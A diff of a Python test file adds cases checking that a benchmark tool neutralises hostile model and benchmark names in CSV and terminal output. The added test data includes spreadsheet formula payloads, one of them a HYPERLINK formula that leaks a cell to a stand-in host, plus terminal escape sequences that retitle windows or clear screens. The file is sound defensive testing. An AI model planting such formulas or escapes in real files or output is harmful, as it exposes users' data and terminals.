@@ -1,15 +1,19 @@
 """The bad-input corpus, issue 32: a folder handed to the user by someone else (planted manifests, symbolic
 links), an environment that fails under a write, names that are formulas or terminal escapes.
 
-The group number continues cases.py's (9: planted manifests). test_hostile.py runs these cases with the
+The group numbers continue cases.py's (9: planted manifests, 10: names that are formulas or terminal
+escapes). test_hostile.py runs these cases with the
 same checks as test_corpus.py (exit code, one line, nothing written, planted files unchanged).
 """
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
+import re
 from typing import Any
 
 from cases import _compress, _score
@@ -221,4 +225,205 @@ case(
         _warned("10 entries")(e, r),
         [(e.root / "o" / n).read_text() == FOREIGN or 1 / 0 for n in ("x.csv", "y.csv", "z.csv")],
     ),
+)
+
+
+# --- group 10: names that are formulas or terminal escapes ----------------------------------------------
+
+#: model names a spreadsheet would run, or a terminal would act on (window title, clear screen, bell)
+HOSTILE_MODELS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+SUM(1,1)",
+    "-2+3",
+    "@cmd",
+    "\x1b]0;pwned\x07model4",
+    "\x1b[2Jmodel5",
+]
+#: the four models of the corpus's verdict table renamed
+VERDICT_MODELS = [HOSTILE_MODELS[4], HOSTILE_MODELS[0], HOSTILE_MODELS[1], HOSTILE_MODELS[3]]
+#: benchmark names of the same kinds
+HOSTILE_BENCHMARKS = {"bench00": "=bench00", "bench01": "@bench01", "bench02": "\x1b[31mbench02"}
+_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|[+-]?(?:inf|nan)", re.IGNORECASE)
+
+
+def _hostile_panel(env: Env) -> str:
+    """The corpus panel with its first models and benchmarks renamed to :data:`HOSTILE_MODELS` and
+    :data:`HOSTILE_BENCHMARKS`."""
+    from benchsift.panel import Panel
+
+    p = Panel.load(env.assets["panel"])
+    models, items = p.models.copy(), p.items.copy()
+    names = list(dict.fromkeys(models["model"]))
+    rename = dict(zip(names, HOSTILE_MODELS, strict=False))
+    models["model"] = models["model"].map(lambda m: rename.get(m, m))
+    items["benchmark"] = items["benchmark"].map(lambda b: HOSTILE_BENCHMARKS.get(b, b))
+    Panel(p.scores, models, items).save(env.root / "hostile.parquet")
+    return "hostile.parquet"
+
+
+def _hostile_verdicts(env: Env) -> str:
+    import pandas as pd
+
+    table = pd.read_csv(env.assets["verdicts"], dtype={"model": str, "item": str})
+    names = list(dict.fromkeys(table["model"]))
+    rename = dict(zip(names, VERDICT_MODELS, strict=True))
+    table["model"] = table["model"].map(lambda m: rename.get(m, m))
+    table.to_parquet(env.root / "hostile.parquet", index=False)
+    return "hostile.parquet"
+
+
+def _formula_cells(folder: Any) -> list[tuple[str, str]]:
+    """(file, cell) of every CSV cell under ``folder`` a spreadsheet would read as a formula."""
+    bad = []
+    for path in sorted(folder.rglob("*.csv")):
+        with open(path, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                bad += [
+                    (path.name, c) for c in row if c.startswith(_TRIGGERS) and _NUMBER.fullmatch(c) is None
+                ]
+    return bad
+
+
+def _neutralised(*raw_files: str, names: tuple[str, ...]) -> Any:
+    """Check: no formula cell in o/*.csv, some cell neutralised ('=...), and the raw names in the JSON
+    files ``raw_files`` (parquet and JSON keep the value)."""
+
+    def check(env: Env, res: Any) -> None:
+        out = env.root / "o"
+        assert not _formula_cells(out), _formula_cells(out)[:5]
+        cells = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*.csv"))
+        assert any(f"'{n}" in cells or f"'{n}".replace('"', '""') in cells for n in names), names
+        for rel in raw_files:
+            text = json.dumps(json.loads((out / rel).read_text(encoding="utf-8")))
+            assert any(json.dumps(n)[1:-1] in text for n in names), rel
+
+    return check
+
+
+case(
+    "audit-out-formula-names",
+    10,
+    lambda e: ["audit", _hostile_panel(e), "--out", "o", "--json"],
+    outcome="ok",
+    writes=("hostile.parquet", "o/*"),
+    check=_neutralised("audit.json", names=("=bench00", "@bench01")),
+)
+case(
+    "score-out-formula-names",
+    10,
+    lambda e: ["prism", "score", _hostile_verdicts(e), "--bootstrap", "50", "--out", "o", "--json"],
+    outcome="ok",
+    writes=("hostile.parquet", "o/*"),
+    check=_neutralised("result.json", names=tuple(VERDICT_MODELS[1:])),
+)
+
+
+def _suite_round_trip(env: Env, res: Any) -> None:
+    from benchsift.compression.suite import load_suite
+
+    _neutralised("suite.json", names=("=bench00", "@bench01"))(env, res)
+    suite = load_suite(env.root / "o")
+    assert set(suite.items["benchmark"]) <= set(HOSTILE_BENCHMARKS.values()) | {
+        "bench03",
+        "bench04",
+        "bench05",
+    }
+    assert "=bench00" in set(suite.items["benchmark"]) or "@bench01" in set(suite.items["benchmark"])
+    assert set(HOSTILE_MODELS[:4]) <= set(suite.reference_models), suite.reference_models
+
+
+case(
+    "compress-out-formula-names",
+    10,
+    lambda e: ["compress", _hostile_panel(e), "--out", "o", "--k", "3", "--floor", "0", "--json"],
+    outcome="ok",
+    writes=("hostile.parquet", "o/*"),
+    check=_suite_round_trip,
+)
+
+
+def _csv_stdout_neutral(env: Env, res: Any) -> None:
+    rows = [r for r in csv.reader(io.StringIO(res.stdout)) if r and not r[0].startswith("# ")]
+    cells = [c for r in rows for c in r]
+    assert "'+SUM(1,1)" in cells, cells[:40]
+    assert not [c for c in cells if c.startswith(_TRIGGERS) and _NUMBER.fullmatch(c) is None]
+
+
+case(
+    "info-format-csv-formula-names",
+    10,
+    lambda e: ["info", _hostile_panel(e), "--format", "csv"],
+    outcome="ok",
+    writes=("hostile.parquet",),
+    check=_csv_stdout_neutral,
+)
+
+
+def _no_raw_controls(env: Env, res: Any) -> None:
+    for stream in (res.stdout, res.stderr):
+        assert not any(c in stream for c in "\x1b\x07\x9b"), repr(stream[:300])
+    assert "\\x1b]0;pwned\\x07model4" in res.stdout, res.stdout[:2000]
+
+
+case(
+    "info-escape-names",
+    10,
+    lambda e: ["info", _hostile_panel(e)],
+    outcome="ok",
+    writes=("hostile.parquet",),
+    check=_no_raw_controls,
+)
+case(
+    "score-table-escape-names",
+    10,
+    lambda e: ["prism", "score", _hostile_verdicts(e), "--bootstrap", "50"],
+    outcome="ok",
+    writes=("hostile.parquet",),
+    check=_no_raw_controls,
+)
+
+
+def _json_raw(env: Env, res: Any) -> None:
+    assert "\x1b" not in res.stdout  # JSON writes it as \u001b ...
+    assert "\\u001b]0;pwned\\u0007model4" in res.stdout  # ... and keeps it: the raw name, escaped by JSON
+
+
+case(
+    "info-json-keeps-raw-names",
+    10,
+    lambda e: ["info", _hostile_panel(e), "--json"],
+    outcome="ok",
+    writes=("hostile.parquet",),
+    check=_json_raw,
+)
+case(
+    "error-escape-file-name",
+    10,
+    lambda e: ["info", "no\x1b]0;pwned\x07such\x1b[2J.parquet"],
+    match=r"no\\x1b\]0;pwned\\x07such\\x1b\[2J\.parquet",
+)
+case(
+    "error-escape-not-a-panel",
+    10,
+    lambda e: (e.write("bad\x1b[2J\x07.parquet", "not parquet"), ["info", "bad\x1b[2J\x07.parquet"])[1],
+    match=r"bad\\x1b\[2J\\x07\.parquet",
+)
+
+
+def _warning_escaped(env: Env, res: Any) -> None:
+    line = [x for x in res.stderr.splitlines() if x.startswith("benchsift: warning: ")]
+    assert line and "\\x1b]0;pwned\\x07" in line[0], res.stderr
+    assert "\x1b" not in res.stderr and "\x07" not in res.stderr
+
+
+case(
+    "warning-escape-manifest-entry",
+    10,
+    lambda e: (_plant(e, "o", {"\x1b]0;pwned\x07../notes.md": _entry(e.root / "notes.md")}), _compress_o(e))[
+        1
+    ],
+    outcome="ok",
+    writes=("o/*",),
+    check=_warning_escaped,
 )
